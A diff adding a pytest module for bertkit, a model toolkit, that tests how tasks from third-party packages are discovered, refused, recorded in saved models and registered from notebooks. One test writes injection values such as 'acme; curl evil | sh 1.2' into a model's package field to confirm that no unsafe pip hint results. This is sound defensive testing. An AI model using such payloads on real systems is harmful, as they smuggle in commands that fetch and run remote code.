@@ -1,0 +1,161 @@
+"""Tasks of other packages, and of `register`: found, refused with the reason, recorded in a model, missed elsewhere."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any, ClassVar, Literal
+
+import pytest
+import small
+
+import bertkit
+from bertkit import tasks
+from bertkit.cli.doctor import examine
+from bertkit.errors import ModelError, RecipeError
+from bertkit.recipe.recipe import json_schema
+from bertkit.tasks import Task, get_task
+from bertkit.tasks.text_classification import TextClassification, TextClassificationOptions
+
+MODULE = """
+from typing import Literal
+from bertkit.tasks.text_classification import TextClassification, TextClassificationOptions
+
+class Options(TextClassificationOptions):
+    name: Literal["{name}"]
+
+class Mine(TextClassification):
+    Options, name, pipeline = Options, "{name}", ""
+"""
+
+
+def install(folder: Path, package: str, module: str, announced: str, code: str) -> None:
+    """A package as pip leaves it. announced: its entry point."""
+    about = folder / f"{package}-1.2.dist-info"
+    about.mkdir(parents=True)
+    (about / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {package}\nVersion: 1.2\n")
+    (about / "entry_points.txt").write_text(f"[bertkit.tasks]\n{announced}\n")
+    (folder / f"{module}.py").write_text(code)
+
+
+@pytest.fixture
+def own(monkeypatch: pytest.MonkeyPatch) -> None:
+    """What is registered or loaded is forgotten afterwards."""
+    monkeypatch.setattr(tasks, "_OTHERS", {})
+
+
+@pytest.fixture
+def packages(tmp_path: Path, own: None, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """One good package, and several that cannot be used."""
+    folder = tmp_path / "packages"
+    install(folder, "acme-tasks", "acme", "shouting = acme:Mine", MODULE.format(name="shouting"))
+    install(folder, "torn", "torn", "torn = torn:Mine", "import nothing_of_this_name")
+    install(folder, "misnamed", "misnamed", "whispering = misnamed:Mine", MODULE.format(name="shout"))
+    install(folder, "no-task", "no_task", "counting = no_task:Mine", "Mine = dict")
+    install(folder, "first", "first", "twice = first:Mine", MODULE.format(name="twice"))
+    install(folder, "second", "second", "twice = second:Mine", MODULE.format(name="twice"))
+    install(folder, "usurper", "usurper", "text-ranking = usurper:Mine", MODULE.format(name="text-ranking"))
+    monkeypatch.syspath_prepend(str(folder))
+    return folder
+
+
+@pytest.mark.usefixtures("packages")
+def test_a_package_announces_a_task_and_one_that_cannot_be_used_is_refused_by_itself(tiny_encoder: Path) -> None:
+    assert get_task("shouting").__module__ == "acme"
+    assert tasks.package_of("shouting") == "acme-tasks 1.2"
+    assert get_task("text-ranking") is tasks.OURS["text-ranking"]
+    for name, why in {
+        "torn": "'torn' of torn 1.2 cannot be used: ModuleNotFoundError: No module named 'nothing_of_this_name'",
+        "whispering": "'whispering' of misnamed 1.2 cannot be used: its name is 'shout'",
+        "counting": "of no-task 1.2 cannot be used: .* is not a subclass of bertkit.tasks.Task",
+        "twice": "of first 1.2 and second 1.2 cannot be used: several packages have a task of this name",
+        "shoutin": "no task 'shoutin'; did you mean 'shouting'",
+    }.items():
+        small.raises(RecipeError, why, get_task, name)
+        small.raises(RecipeError, why, bertkit.Recipe, task=name, model=tiny_encoder, data="sample:sentiment")
+    one, several = json_schema()["else"]["properties"]["task"], json_schema()["$defs"]["TaskPart"]["properties"]["task"]
+    names = [*tasks.OURS, "shouting"]
+    assert [*one["discriminator"]["mapping"]] == sorted(names)
+    assert len(several["oneOf"]) == sum(get_task(name).shares_encoder for name in names)
+    listed = examine()["tasks"]
+    assert (listed["shouting"], "text-ranking" in listed) == ("acme-tasks 1.2", False)
+    assert "nothing_of_this_name" in listed["torn"]
+
+
+def outside(code: str, *paths: Path) -> subprocess.CompletedProcess[str]:
+    """What a process with these folders on its path, and no others but bertkit's, does with the code."""
+    path = os.pathsep.join(map(str, [*paths, Path(bertkit.__file__).parent.parent]))
+    command = [sys.executable, "-c", f"import sys, bertkit.cli.main as cli; sys.exit(cli.main({code}))"]
+    return subprocess.run(command, capture_output=True, text=True, check=False, env={**os.environ, "PYTHONPATH": path})
+
+
+def test_a_model_names_the_package_that_it_needs(packages: Path, tiny_encoder: Path, tmp_path: Path) -> None:
+    file = small.write_recipe(tmp_path, tiny_encoder)
+    file.write_text(file.read_text().replace("text-classification", "shouting"))
+    run = bertkit.train(file, tmp_path / "run", epochs=1, verify=True)
+    assert run.results["verified"]
+    config = run.model / "config.json"
+    section = json.loads(config.read_text())["bertkit"]
+    assert section["package"] == "acme-tasks 1.2"
+    predict = ["predict", str(run.folder), "a cat"]
+    assert outside(str(predict), packages).returncode == 0
+    for code in (predict, ["check", str(run.folder / "recipe.yaml")]):
+        missed = outside(str(code))
+        assert missed.returncode == 2
+        assert "its task 'shouting' is of the package acme-tasks, which is not installed" in missed.stderr
+        assert missed.stderr.endswith("\n    pip install acme-tasks\n")
+    section["task"]["name"] = "gone"
+    for package in ("acme; curl evil | sh 1.2", "-r evil 1", 7, None):
+        small.change_json(config, bertkit={**section, "package": package})
+        said = small.message_of(ModelError, bertkit.load, run.folder)
+        assert "damaged" in said or "pip" not in said
+
+
+class Options(TextClassificationOptions):
+    name: Literal["of-a-notebook"]  # type: ignore[assignment]
+
+
+def of_a_notebook(**members: Any) -> Any:
+    """A class as a cell defines it, each time anew."""
+    return type("Mine", (TextClassification,), {"Options": Options, "name": "of-a-notebook", **members})
+
+
+@pytest.mark.usefixtures("packages")
+def test_a_notebook_registers_a_task_and_registers_it_again(tiny_encoder: Path, tmp_path: Path) -> None:
+    bertkit.register(of_a_notebook())
+    again = bertkit.register(of_a_notebook())
+    assert get_task("of-a-notebook") is again
+    run = bertkit.train(small.write_recipe(tmp_path, tiny_encoder), tmp_path / "run", task="of-a-notebook", epochs=1)
+    assert bertkit.load(run.folder)("a cat")["label"] in ("good", "bad")
+    assert json.loads((run.model / "config.json").read_text())["bertkit"]["package"] is None
+
+
+@pytest.mark.usefixtures("own")
+def test_a_model_of_a_registered_task_is_not_verified_and_says_so(
+    tiny_encoder: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    bertkit.register(of_a_notebook())
+    file = small.write_recipe(tmp_path, tiny_encoder)
+    run = bertkit.train(file, tmp_path / "run", task="of-a-notebook", epochs=1, verify=True)
+    assert run.results["verified"] is False
+    assert "a fresh process does not know of-a-notebook, which this one registered" in caplog.text
+
+
+class Half(Task):
+    name: ClassVar[str] = "half"
+
+
+@pytest.mark.usefixtures("packages")
+def test_what_is_registered_must_be_a_task_of_a_new_name() -> None:
+    for members, why in (
+        ({"name": "retrieval"}, "bertkit has a task of this name"),
+        ({"name": "shouting"}, "acme-tasks 1.2 has a task of this name"),
+        ({"name": "other"}, r"its Options do not declare  name: Literal\['other'\]"),
+        ({"gives": classmethod(lambda kind, role: True)}, "it must be a bertkit.tasks.VectorTask"),
+    ):
+        small.raises(RecipeError, why, bertkit.register, of_a_notebook(**members))
+    small.raises(RecipeError, "it lacks Options, schema, forms, count, decode", bertkit.register, Half)
+    small.raises(RecipeError, "is not a subclass", bertkit.register, dict)
